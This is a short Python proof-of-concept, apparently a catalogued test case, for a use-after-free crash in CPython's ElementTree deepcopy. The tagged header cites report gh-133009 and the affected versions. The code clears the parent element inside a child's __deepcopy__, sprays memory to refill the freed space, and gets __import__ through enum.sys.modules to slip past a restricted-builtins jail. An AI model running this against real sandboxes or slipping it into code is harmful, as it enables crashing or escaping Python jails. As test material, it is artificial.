# id: elementtree-deepcopy
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-133009
# technique: deepcopy() of an element asks each child for a copy, and a child's __deepcopy__ clears the parent
# needs: a jail that lets xml through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import copy
import enum

load = enum.sys.modules["builtins"].__import__
Element = load("xml.etree.ElementTree", None, None, ["x"]).Element


class Child(Element):
    def __deepcopy__(self, memo):
        top.clear()
        refill.extend(bytes([255]) * 60 for _ in range(200))
        return self


refill = []
top = Element("top")
top.extend([Child("a"), Child("b"), Child("c")])
copy.deepcopy(top)
